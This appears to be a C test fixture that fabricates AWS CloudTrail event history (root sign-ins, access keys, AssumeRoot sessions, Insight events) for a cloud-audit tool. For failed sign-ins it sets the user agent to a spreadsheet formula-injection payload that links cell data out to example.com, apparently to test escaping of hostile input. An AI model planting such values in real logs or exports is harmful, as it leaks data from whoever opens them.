#include "tests/fakecloud/history.h"

#include "core/base/buffer.h"
#include "core/base/memory.h"
#include "core/base/timestamp.h"
#include "core/decode/json.h"
#include "core/decode/json_write.h"
#include "tests/fakecloud/chance.h"
#include "tests/fakecloud/events.h"
#include "tests/fakecloud/machines.h"

#include <json-c/json.h>
#include <stdlib.h>
#include <string.h>

#define HOME "us-east-1" /* where sign-in and IAM are logged */
#define CALL "AwsApiCall"
#define SIGN_IN "AwsConsoleSignIn"
/* Whoever fails to sign in chooses what the user agent says: a spreadsheet would compute it. */
#define HOSTILE_AGENT "=HYPERLINK(\"https://example.com/?\"&A1,\"<b>click</b>\")"

enum {
    ALIAS_ONE_IN = 4,
    EVENT_TEXT_MAX = 64 * 1024,
    KEY_DIGITS = 16,
    INSIGHT_S = 300,
    SESSION_S = 300
};

enum who {
    WHO_SIGN_IN,  /* root at the console's door: no key yet */
    WHO_CONSOLE,  /* root in the console */
    WHO_KEY,      /* root's access key */
    WHO_TASK,     /* a session of AssumeRoot */
    WHO_SERVICE,  /* AWS on root's behalf */
    WHO_NAMESAKE, /* an IAM user whose name is root */
    WHO_USER,
    WHO_ROLE,
};

struct recipe {
    enum who who;
    bool home; /* logged in us-east-1 alone */
    bool reads;
    const char *service, *name, *type;
    const char *mfa;      /* sign-in: MFAUsed; console: mfaAuthenticated */
    const char *failure;  /* errorMessage */
    const char *resource; /* its type, or NULL */
};

static const struct recipe roots[] = {
    { WHO_SIGN_IN, true, false, "signin", "ConsoleLogin", SIGN_IN, "Yes", NULL, NULL },
    { WHO_SIGN_IN, true, false, "signin", "ConsoleLogin", SIGN_IN, "No", NULL, NULL },
    { WHO_SIGN_IN, true, false, "signin", "ConsoleLogin", SIGN_IN, "No", "Failed authentication",
      NULL },
    { WHO_CONSOLE, true, false, "iam", "CreateAccessKey", CALL, "true", NULL,
      "AWS::IAM::AccessKey" },
    { WHO_CONSOLE, true, false, "iam", "DeactivateMFADevice", CALL, "false", NULL, NULL },
    { WHO_CONSOLE, true, true, "iam", "GetAccountSummary", CALL, "true", NULL, NULL },
    { WHO_TASK, true, true, "iam", "ListAccessKeys", CALL, "false", NULL, NULL },
    { WHO_TASK, true, false, "iam", "DeleteLoginProfile", CALL, "false", NULL, NULL },
    { WHO_KEY, true, true, "iam", "ListUsers", CALL, NULL, NULL, NULL },
    { WHO_NAMESAKE, true, true, "iam", "GetUser", CALL, "false", NULL, "AWS::IAM::User" },
    { WHO_CONSOLE, false, true, "ec2", "DescribeSecurityGroups", CALL, "true", NULL, NULL },
    { WHO_KEY, false, true, "ec2", "DescribeInstances", CALL, NULL, NULL, NULL },
    { WHO_KEY, false, false, "ec2", "RunInstances", CALL, NULL, NULL, "AWS::EC2::Instance" },
    { WHO_TASK, false, false, "s3", "DeleteBucketPolicy", CALL, "false", NULL, "AWS::S3::Bucket" },
    { WHO_SERVICE, false, true, "rds", "DescribeDBInstances", CALL, NULL, NULL, NULL },
    { WHO_SERVICE, false, false, "kms", "RotateKey", "AwsServiceEvent", NULL, NULL,
      "AWS::KMS::Key" },
};

static const struct recipe others[] = {
    { WHO_USER, true, false, "signin", "ConsoleLogin", SIGN_IN, "Yes", NULL, NULL },
    { WHO_USER, true, false, "iam", "CreateUser", CALL, "true", NULL, "AWS::IAM::User" },
    { WHO_ROLE, false, true, "ec2", "DescribeInstances", CALL, NULL, NULL, NULL },
    { WHO_ROLE, false, false, "ec2", "AuthorizeSecurityGroupIngress", CALL, NULL, NULL,
      "AWS::EC2::SecurityGroup" },
    { WHO_ROLE, false, false, "sts", "AssumeRoot", CALL, NULL, NULL, NULL },
};

/* Somebody's old script: hundreds of calls, more than a page of LookupEvents holds. */
static const struct recipe script[] = {
    { WHO_KEY, false, true, "ec2", "DescribeVolumes", CALL, NULL, NULL, NULL },
};

enum { ROOTS = sizeof roots / sizeof *roots, OTHERS = sizeof others / sizeof *others };

/* What is being told. */
struct teller {
    const struct estate *e;
    const struct recipe *recipes;
    size_t count;
    struct json_object *out;
    history_use_fn each;      /* instead of `out` */
    history_record_fn record; /* likewise */
    void *ctx;
};

static void set(struct json_object *o, const char *name, const char *value)
{
    json_object_object_add(o, name, json_object_new_string(value));
}

static bool is_root(enum who who)
{
    return who <= WHO_SERVICE;
}

static const char *username_of(enum who who)
{
    return is_root(who) || who == WHO_NAMESAKE ? HISTORY_ROOT
           : who == WHO_USER                   ? "alice"
                                               : "nightly-build";
}

const char *history_alias(const struct estate *e, const char *account)
{
    struct json_object *aliases =
        estate_find(e, (struct place){ account, ESTATE_GLOBAL }, "AccountAliases");
    return aliases == NULL || json_object_array_length(aliases) == 0
               ? NULL
               : json_string(json_object_array_get_idx(aliases, 0), "_alias");
}

/* Who is named; root at the console sometimes by the account's alias. */
static const char *user_of(const struct estate *e, const struct event *event, enum who who)
{
    bool console = who == WHO_SIGN_IN || who == WHO_CONSOLE;
    const char *alias = console ? history_alias(e, event->at.account) : NULL;
    return alias != NULL && events_number(e, event, "alias", ALIAS_ONE_IN) == 0 ? alias
                                                                                : username_of(who);
}

/* AKIA: of root, one an account; ASIA: of this event's session. free(). */
static char *key_of(const struct estate *e, const struct event *event, enum who who)
{
    bool lasting = who == WHO_KEY || who == WHO_NAMESAKE;
    char *path = lasting ? memory_format("%s/%s/key", event->at.account, username_of(who))
                         : memory_format("%s/key", event->path);
    char *hex = chance_hex(e->o.seed, path, KEY_DIGITS);
    for (char *c = hex; *c != '\0'; c++)
        if (*c >= 'a')
            *c = (char)(*c - 'a' + 'A');
    char *key = memory_format("%s%s", lasting ? "AKIA" : "ASIA", hex);
    free(hex);
    free(path);
    return key;
}

static struct json_object *session_of(const struct event *event, const struct recipe *r)
{
    char date[TIMESTAMP_MAX];
    timestamp_iso(event->at_s - SESSION_S, date);
    struct json_object *session =
        estate_json("{\"attributes\":{\"creationDate\":\"%s\",\"mfaAuthenticated\":\"%s\"}}", date,
                    r->mfa == NULL ? "false" : r->mfa);
    if (r->who == WHO_TASK)
        set(session, "assumedRoot", "true");
    if (r->who == WHO_ROLE)
        json_object_object_add(
            session, "sessionIssuer",
            estate_json(
                "{\"type\":\"Role\",\"principalId\":\"AROAEXAMPLEROLE\",\"arn\":\"arn:aws:iam::%s:role/build\","
                "\"accountId\":\"%s\",\"userName\":\"build\"}",
                event->at.account, event->at.account));
    return session;
}

static struct json_object *identity_of(const struct event *event, const struct recipe *r,
                                       const char *key, const char *user)
{
    const char *account = event->at.account;
    struct json_object *o =
        is_root(r->who)
            ? estate_json(
                  "{\"type\":\"Root\",\"principalId\":\"%s\",\"arn\":\"arn:aws:iam::%s:root\"}",
                  account, account)
        : r->who == WHO_ROLE
            ? estate_json("{\"type\":\"AssumedRole\",\"principalId\":\"AROAEXAMPLEROLE:%s\","
                          "\"arn\":\"arn:aws:sts::%s:assumed-role/build/%s\"}",
                          user, account, user)
            : estate_json("{\"type\":\"IAMUser\",\"principalId\":\"AIDAEXAMPLEUSER\","
                          "\"arn\":\"arn:aws:iam::%s:user/%s\",\"userName\":\"%s\"}",
                          account, user, user);
    set(o, "accountId", account);
    set(o, "accessKeyId", key);
    if (is_root(r->who) && strcmp(user, HISTORY_ROOT) != 0)
        set(o, "userName", user);
    if (r->who == WHO_CONSOLE || r->who == WHO_TASK || r->who == WHO_ROLE)
        json_object_object_add(o, "sessionContext", session_of(event, r));
    if (r->who == WHO_SERVICE)
        set(o, "invokedBy", "AWS Internal");
    return o;
}

/* Where root's key is: an old script on somebody else's machine, and a machine of the account's own. */
static const char *machine_of(const struct estate *e, const struct event *event,
                              const struct recipe *r, struct place *out_at)
{
    size_t account = r == script ? e->o.accounts - 1 : estate_number(e, event->at.account);
    *out_at = estate_place(e, account, 0);
    return r->who != WHO_KEY ? NULL : r == script ? MACHINES_FIRST : MACHINES_DISPENSABLE;
}

/* Of a network that nothing in any estate is in, or of the machine. free() */
static char *address_of(const struct estate *e, const struct event *event, const struct recipe *r)
{
    struct place at;
    struct machines_seen seen;
    const char *machine = machine_of(e, event, r, &at);
    if (machine == NULL)
        return memory_format(events_number(e, event, "v6", 4) == 0 ? "2001:db8::%x"
                                                                   : "192.88.99.%d",
                             1 + (unsigned)events_number(e, event, "address", 254));
    machines_see(e, at, machine, &seen);
    char *address = memory_string(r == script ? seen.public_ip : seen.address);
    machines_seen_release(&seen);
    return address;
}

static void add_source(const struct estate *e, const struct event *event, const struct recipe *r,
                       struct json_object *o)
{
    char *address = address_of(e, event, r);
    bool service = r->who == WHO_SERVICE, console = r->who == WHO_SIGN_IN || r->who == WHO_CONSOLE;
    set(o, "sourceIPAddress", service ? "AWS Internal" : address);
    if (r->who == WHO_KEY && r != script) {
        set(o, "vpcEndpointId", "vpce-0fedcba9876543210");
        set(o, "vpcEndpointAccountId", event->at.account);
    }
    set(o, "userAgent",
        service              ? "AWS Internal"
        : r->failure != NULL ? HOSTILE_AGENT
        : console ? "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
                  : "aws-cli/2.31.0 md/prompt#off ua/2.1 os/linux#6.1.0 lang/python#3.13.7");
    free(address);
}

static void add_results(const struct recipe *r, struct json_object *o)
{
    json_object_object_add(o, "requestParameters", NULL);
    json_object_object_add(o, "responseElements", NULL);
    if (strcmp(r->type, SIGN_IN) != 0)
        return;
    json_object_object_add(
        o, "responseElements",
        estate_json("{\"ConsoleLogin\":\"%s\"}", r->failure == NULL ? "Success" : "Failure"));
    json_object_object_add(
        o, "additionalEventData",
        estate_json(
            "{\"LoginTo\":\"https://console.aws.amazon.com/console/home\",\"MobileVersion\":\"No\","
            "\"MFAUsed\":\"%s\"}",
            r->mfa));
    if (r->failure != NULL)
        set(o, "errorMessage", r->failure);
}

/* The record as it lies in the log. */
static struct json_object *record_of(const struct estate *e, const struct event *event,
                                     const struct recipe *r, const char *key, const char *user)
{
    char date[TIMESTAMP_MAX];
    timestamp_iso(event->at_s, date);
    struct json_object *o = estate_json(
        "{\"eventVersion\":\"1.11\",\"eventTime\":\"%s\",\"eventSource\":\"%s.amazonaws.com\",\"eventName\":\"%s\","
        "\"awsRegion\":\"%s\",\"requestID\":\"%s\",\"eventID\":\"%s\",\"readOnly\":%s,\"eventType\":\"%s\","
        "\"managementEvent\":true,\"eventCategory\":\"Management\",\"recipientAccountId\":\"%s\","
        "\"tlsDetails\":{\"tlsVersion\":\"TLSv1.3\",\"cipherSuite\":\"TLS_AES_128_GCM_SHA256\","
        "\"clientProvidedHostHeader\":\"%s.%s.amazonaws.com\"}}",
        date, r->service, r->name, event->at.region, event->id, event->id,
        r->reads ? "true" : "false", r->type, event->at.account, r->service, event->at.region);
    json_object_object_add(o, "userIdentity", identity_of(event, r, key, user));
    add_source(e, event, r, o);
    add_results(r, o);
    return o;
}

/* `record` as a string in `of`; takes the record over. */
static void add_record(struct json_object *of, struct json_object *record)
{
    struct buffer text;
    buffer_init(&text, EVENT_TEXT_MAX);
    json_write_plain(record, &text);
    set(of, "CloudTrailEvent", buffer_string(&text));
    buffer_release(&text);
    json_object_put(record);
}

static void add_resources(struct json_object *of, const struct event *event, const struct recipe *r)
{
    struct json_object *resources = json_object_new_array();
    if (r->resource != NULL)
        json_object_array_add(
            resources, estate_json("{\"ResourceType\":\"%s\",\"ResourceName\":\"thing-%.8s\"}",
                                   r->resource, event->id));
    json_object_object_add(of, "Resources", resources);
}

/* What a session of AssumeRoot is for. */
static const char *task_of(const struct recipe *r)
{
    return r->who != WHO_TASK                           ? NULL
           : r->reads                                   ? "audit"
           : strcmp(r->name, "DeleteBucketPolicy") == 0 ? "unlock-s3"
                                                        : "delete-credentials";
}

static void tell_use(const struct teller *t, const struct event *event, const struct recipe *r,
                     const char *key)
{
    static const char *const ways[] = { "console", "console", "access-key", "assume-root" };
    struct history_use use = { .event = event,
                               .way = r->failure != NULL ? "failed-sign-in" : ways[r->who],
                               .task = task_of(r),
                               .name = r->name,
                               .key = key };
    char *address = address_of(t->e, event, r);
    use.address = address;
    use.machine = machine_of(t->e, event, r, &use.machine_at);
    if (r->mfa != NULL)
        use.mfa = strcmp(r->mfa, "Yes") == 0 || strcmp(r->mfa, "true") == 0 ? 1 : -1;
    t->each(t->ctx, &use);
    free(address);
}

static void tell(void *ctx, const struct event *event)
{
    struct teller *t = ctx;
    const struct recipe *r = &t->recipes[events_number(t->e, event, "recipe", t->count)];
    char date[TIMESTAMP_MAX], *made = key_of(t->e, event, r->who);
    const char *key = strcmp(r->type, SIGN_IN) == 0 || r->who == WHO_SERVICE ? "" : made;
    const char *user = user_of(t->e, event, r->who);
    timestamp_iso(event->at_s, date);
    /* What cannot have happened here did not happen. */
    bool here = !r->home || strcmp(event->at.region, HOME) == 0;
    if (here && t->each != NULL && is_root(r->who) && r->who != WHO_SERVICE)
        tell_use(t, event, r, made);
    if (here && t->record != NULL)
        t->record(t->ctx, event, record_of(t->e, event, r, key, user));
    if (here && t->out != NULL) {
        struct json_object *o = estate_json(
            "{\"EventId\":\"%s\",\"EventName\":\"%s\",\"ReadOnly\":\"%s\",\"EventTime\":\"%s\","
            "\"EventSource\":\"%s.amazonaws.com\",\"Username\":\"%s\"}",
            event->id, r->name, r->reads ? "true" : "false", date, r->service, user);
        if (*key != '\0')
            set(o, "AccessKeyId", key);
        add_resources(o, event, r);
        add_record(o, record_of(t->e, event, r, key, user));
        json_object_array_add(t->out, o);
    }
    free(made);
}

/* One end of an unusual rate of calls: `state` Start or End. */
static void tell_end(struct teller *t, const struct event *event, const char *state, int64_t at_s)
{
    char date[TIMESTAMP_MAX], other = *state == 'S' ? 'a' : 'b';
    char *id = memory_format("%c%s", other, event->id + 1);
    timestamp_iso(at_s, date);
    struct json_object *o = estate_json(
        "{\"EventId\":\"%s\",\"EventName\":\"RunInstances\",\"EventTime\":\"%s\",\"EventSource\":\"ec2.amazonaws.com\","
        "\"Resources\":[]}",
        id, date);
    add_record(
        o,
        estate_json(
            "{\"eventVersion\":\"1.09\",\"eventTime\":\"%s\",\"awsRegion\":\"%s\",\"eventID\":\"%s\","
            "\"eventType\":\"AwsCloudTrailInsight\",\"recipientAccountId\":\"%s\",\"sharedEventID\":\"%s\","
            "\"insightDetails\":{\"state\":\"%s\",\"eventSource\":\"ec2.amazonaws.com\",\"eventName\":\"RunInstances\","
            "\"insightType\":\"ApiCallRateInsight\",\"insightContext\":{\"statistics\":{\"baseline\":{\"average\":0.0020},"
            "\"insight\":{\"average\":%d.5},\"insightDuration\":5,\"baselineDuration\":11459}}},"
            "\"eventCategory\":\"Insight\"}",
            date, event->at.region, id, event->at.account, event->id, state,
            5 + (int)events_number(t->e, event, "rate", 40)));
    json_object_array_add(t->out, o);
    free(id);
}

static void tell_insight(void *ctx, const struct event *event)
{
    struct teller *t = ctx;
    tell_end(t, event, "Start", event->at_s - INSIGHT_S);
    tell_end(t, event, "End", event->at_s);
}

/* Newest first; of one time by id. */
static int compare(const void *a, const void *b)
{
    struct json_object *const *left = a, *const *right = b;
    int order = strcmp(json_string(*right, "EventTime"), json_string(*left, "EventTime"));
    return order != 0 ? order
                      : strcmp(json_string(*left, "EventId"), json_string(*right, "EventId"));
}

static void tell_management(struct teller *t, struct place at)
{
    bool home = strcmp(at.region, HOME) == 0;
    const struct event_rate often = { "root", 16, 2 }, seldom = { "root", 6, 4 },
                            usual = { "others", 6, 2 }, steady = { "script", 120, 1 };
    t->recipes = roots;
    t->count = ROOTS;
    events_each(t->e, at, home ? &often : &seldom, tell, t);
    t->recipes = others;
    t->count = OTHERS;
    events_each(t->e, at, &usual, tell, t);
    t->recipes = script;
    t->count = 1;
    if (home && strcmp(at.account, estate_account(t->e, 0)) == 0)
        events_each(t->e, at, &steady, tell, t);
}

void history_uses(const struct estate *e, struct place at, history_use_fn each, void *ctx)
{
    struct teller t = { .e = e, .each = each, .ctx = ctx };
    tell_management(&t, at);
}

void history_records(const struct estate *e, struct place at, history_record_fn each, void *ctx)
{
    struct teller t = { .e = e, .record = each, .ctx = ctx };
    tell_management(&t, at);
}

struct json_object *history_events(const struct estate *e, struct place at, enum history_kind kind)
{
    static const struct event_rate rate = { "insight", 3, 4 };
    struct json_object *out = json_object_new_array();
    struct teller t = { .e = e, .out = out };
    if (kind == HISTORY_INSIGHT)
        events_each(e, at, &rate, tell_insight, &t);
    else
        tell_management(&t, at);
    json_object_array_sort(out, compare);
    return out;
}
